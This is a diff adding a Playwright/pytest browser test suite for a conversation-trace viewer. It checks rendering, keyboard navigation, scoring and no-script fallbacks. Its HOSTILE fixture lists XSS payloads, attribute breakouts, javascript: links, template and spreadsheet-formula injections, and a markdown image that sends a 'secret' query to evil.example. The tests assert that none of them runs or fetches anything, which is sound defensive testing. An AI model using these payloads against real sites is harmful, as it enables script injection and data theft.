@@ -1,0 +1,216 @@
+"""Session, turn and diff in a real browser: hostile texts stay texts, keys lead on, all of it works without scripts."""
+
+from __future__ import annotations
+
+from dataclasses import replace
+from typing import Any
+
+import pytest
+
+from convotrace.model import Conversation, Failure, Payload, Span
+
+TOKEN = "open-sesame-0123456789"
+FIRST, SECOND = "a" * 32, "b" * 32
+
+pytestmark = pytest.mark.browser
+
+HOSTILE = {
+    "script": "<script>window.broken = 1</script><img src=x onerror='window.broken = 1'><svg onload='window.broken=1'>",
+    "attributes": "\"' onmouseover=window.broken=1 x=\"' autofocus onfocus=window.broken=1 ",
+    "closing": "</script></textarea></title></style></details></summary>--><!-- ]]>",
+    "addresses": "[a](javascript:window.broken=1) <javascript:x> [b]: data:text/html,x\n\n[b] [c](//evil.example)",
+    "images": "![x](https://evil.example/p?q=secret) ![y][z]\n\n[z]: https://evil.example/",
+    "templates": '{{ 7 * 7 }} {% raw %} ${7*7} #{7*7} <%= 7*7 %> =HYPERLINK("http://evil.example") @SUM(1+1)|cmd',
+    "direction": "\u202eevil\u202c \u2066x\u2069 a\u200bb\ufeff \x1b[31mred\x07 \x00",
+    "long line": "x" * 1_000_000,
+    "depth": "[" * 4_000 + "]" * 4_000 + "\n" + "> " * 500 + "deep\n" + "".join("  " * n + "- a\n" for n in range(120)),
+    "broken JSON": '{"a": [1, {"b": "\\ud800", "c": }',
+    "lone surrogate": "a\ud800b",
+}
+
+
+@pytest.fixture
+def house(new_house, seed):
+    """A house with a session of two turns, in which a harmless text stands everywhere."""
+    return new_house([seed("Hello there")])
+
+
+@pytest.fixture
+def visit(browser, site):
+    """Open pages in a browser that notes every complaint and every request to elsewhere."""
+
+    def _visit(path: str, **options: Any) -> Any:
+        page = browser.new_context(**options).new_page()
+        page.set_default_timeout(10_000)
+        page.complaints = []
+        page.on("console", lambda message: page.complaints.append(message.text) if _is_complaint(message) else None)
+        page.on("pageerror", lambda error: page.complaints.append(str(error)))
+        page.on("request", lambda request: request.url.startswith(site) or page.complaints.append(request.url))
+        page.goto(f"{site}/health?token={TOKEN}")
+        page.goto(f"{site}{path}", wait_until="load")
+        return page
+
+    return _visit
+
+
+def _is_complaint(message: Any) -> bool:
+    return message.type in ("error", "warning") and "Cross-Origin-Opener-Policy" not in message.text
+
+
+def _addresses(house: Any) -> list[str]:
+    session = f"/s/{house.shelf.conversations[0].session.key}"
+    turns = [f"{session}/t/{letter * 32}" for letter in "ab"]
+    spans = [f"{turns[0]}?span={number * 16}" for number in "1234"]
+    return [session, f"{session}?view=cards", f"{session}?view=waterfall", *turns, *spans, f"{turns[1]}/diff"]
+
+
+@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
+def test_a_hostile_text_in_every_field_runs_nothing_and_fetches_nothing(visit, house, site, seed, text):
+    # A megabyte in every field is no session: it stands where people, models and tools write.
+    house.shelf.conversations = [_said(seed("hi"), text) if len(text) > 100_000 else seed(text)]
+    addresses = _addresses(house)
+    page = visit(addresses[0])
+    for address in addresses:
+        page.goto(f"{site}{address}")
+        assert page.evaluate("[window.broken, document.querySelectorAll('iframe, object, embed, base').length]") == [
+            None, 0,
+        ]  # fmt: skip
+        assert page.locator("h1").count() == 1
+    assert page.complaints == []
+
+
+def _said(conversation: Conversation, text: str) -> Conversation:
+    first, *others = conversation.traces
+    message = [{"role": "user", "parts": [{"type": "text", "content": text}]}]
+    fields = {"generation": {"input": message}, "tool": {"arguments": {"a": text}, "result": text}}
+    spans = tuple(replace(span, **fields.get(span.kind, {})) for span in first.spans)
+    loud = replace(first, input=Payload(text, {"message": text}), output=Payload(text), spans=spans,
+                   error=Failure("E", text, text))  # fmt: skip
+    return replace(conversation, traces=(loud, *others))
+
+
+@pytest.mark.parametrize(("width", "theme"), [(1440, "light"), (900, "dark"), (360, "light"), (320, "dark")])
+def test_no_page_of_a_session_scrolls_sideways_or_is_blocked(visit, house, site, width, theme):
+    page = visit("/health", viewport={"width": width, "height": 800}, color_scheme=theme)
+    for address in _addresses(house):
+        page.goto(f"{site}{address}")
+        assert page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth") <= 0
+    assert page.complaints == []
+
+
+def _key(house: Any) -> str:
+    return f"/s/{house.shelf.conversations[0].session.key}"
+
+
+def test_from_a_session_three_keys_lead_to_the_broken_step(visit, house):
+    house.shelf.conversations = [_failing_last(house.shelf.conversations[0])]
+    page = visit(_key(house))
+    page.keyboard.press("e")
+    assert page.url.endswith(f"#t{SECOND}")
+    page.keyboard.press("o")
+    page.wait_for_url(f"**/t/{SECOND}*")
+    assert page.locator(".m.failed").inner_text().splitlines()[-1].endswith("no seat left")
+
+
+def _failing_last(conversation: Conversation) -> Conversation:
+    first, second, *others = conversation.traces
+    step = Span("7" * 16, second.id, "book", "tool", status="error", error=Failure("E", "no seat left"),
+                started_ns=second.started_ns, duration_ns=1)  # fmt: skip
+    calm = replace(first, errors=0, spans=())
+    return replace(conversation, traces=(calm, replace(second, spans=(step,)), *others))
+
+
+def test_zooms_keep_the_turn_and_a_turn_leads_back(visit, house):
+    page = visit(_key(house))
+    page.keyboard.press("j")
+    page.keyboard.press("j")
+    for key, view in (("u", "cards"), ("w", "waterfall"), ("t", "")):
+        page.keyboard.press(key)
+        page.wait_for_load_state()
+        page.wait_for_function(f"location.search.includes('view={view}') || '{view}' === ''")
+        assert page.url.endswith(f"#t{SECOND}"), key
+    page.keyboard.press("d")
+    page.wait_for_url("**/diff")
+    page.keyboard.press("t")
+    page.wait_for_url(f"**#t{SECOND}")
+
+
+def test_keys_go_through_model_calls_and_turns_of_a_turns_page(visit, house):
+    page = visit(f"{_key(house)}/t/{FIRST}")
+    page.keyboard.press("n")
+    page.wait_for_url(f"**/t/{SECOND}")
+    page.keyboard.press("p")
+    page.wait_for_url(f"**/t/{FIRST}")
+
+
+def test_a_digit_scores_the_turn_and_typing_does_not(visit, house):
+    page = visit(_key(house))
+    page.keyboard.press("j")
+    with page.expect_response("**/scores"):
+        page.keyboard.press("4")
+    page.wait_for_function("document.getElementById('toast').textContent === 'Turn 1: rating 4'")
+    (score,) = [one for one in house.shelf.conversations[0].scores if one.name == "rating"]
+    assert (score.value, score.target.trace_id, score.source) == (4, FIRST, "annotator")
+    page.click("#add summary")
+    page.fill("#score-name", "n5")
+    assert len([one for one in house.shelf.conversations[0].scores if one.name == "rating"]) == 1
+
+
+def test_brackets_fold_and_unfold_what_is_in_the_turn(visit, house):
+    page = visit(_key(house))
+    page.keyboard.press("j")
+    page.keyboard.press("]")
+    closed = "document.querySelectorAll('.turn[data-current] details:not(.menu):not([open])').length"
+    assert page.evaluate(closed) == 0
+    page.keyboard.press("[")
+    assert page.evaluate(closed) > 3
+
+
+def test_a_turn_is_copied_as_markdown_and_by_its_menu(visit, house):
+    page = visit(_key(house), permissions=["clipboard-read", "clipboard-write"])
+    page.keyboard.press("j")
+    page.keyboard.press("y")
+    page.wait_for_function("document.getElementById('toast').textContent === 'Markdown copied'")
+    page.click(f"#t{FIRST} .menu summary")
+    page.click(f"#t{FIRST} .menu a:has-text('curl')")
+    page.wait_for_function("document.getElementById('toast').textContent === 'curl copied'")
+    assert page.locator(".menu[open]").count() == 0
+    assert page.complaints == []
+
+
+def test_without_scripts_everything_is_a_link_a_form_or_a_fold(visit, house, site):
+    page = visit(_key(house), java_script_enabled=False)
+    page.click("text=Cards")
+    assert "view=cards" in page.url
+    page.click(".tile >> nth=0")
+    assert f"/t/{FIRST}" in page.url
+    page.click("a[rel=next]")
+    page.click("text=Diff with 1")
+    assert page.url.endswith(f"{SECOND}/diff")
+    page.goto(f"{site}{_key(house)}")
+    page.click(f"#t{FIRST} .menu summary")
+    page.click(f"#t{FIRST} .menu a:has-text('Markdown')")
+    assert page.url.endswith(f"{FIRST}.md")
+    assert page.locator("text=Hello there").count() > 0
+
+
+def test_what_is_new_waits_behind_a_button(visit, house):
+    page = visit(_key(house))
+    before = house.shelf.conversations[0]
+    session = replace(before.session, turns=3, last_ns=before.session.last_ns + 10**9)
+    house.shelf.conversations = [replace(before, session=session)]
+    page.wait_for_selector("#fresh:not([hidden])")
+    assert page.inner_text("#fresh a") == "1 new turn: load"
+    page.keyboard.press(".")
+    page.wait_for_selector("#fresh", state="hidden")
+
+
+def test_a_link_to_a_message_unfolds_what_hides_it(visit, house):
+    page = visit(f"{_key(house)}/t/{FIRST}?span={'2' * 16}#m1")
+    assert page.locator("#m1").is_visible()
+
+
+def test_on_paper_all_that_is_folded_is_there(visit, house):
+    page = visit(_key(house))
+    page.emulate_media(media="print")
+    assert page.locator(".rail").is_hidden() and page.locator(".seg").first.is_hidden()
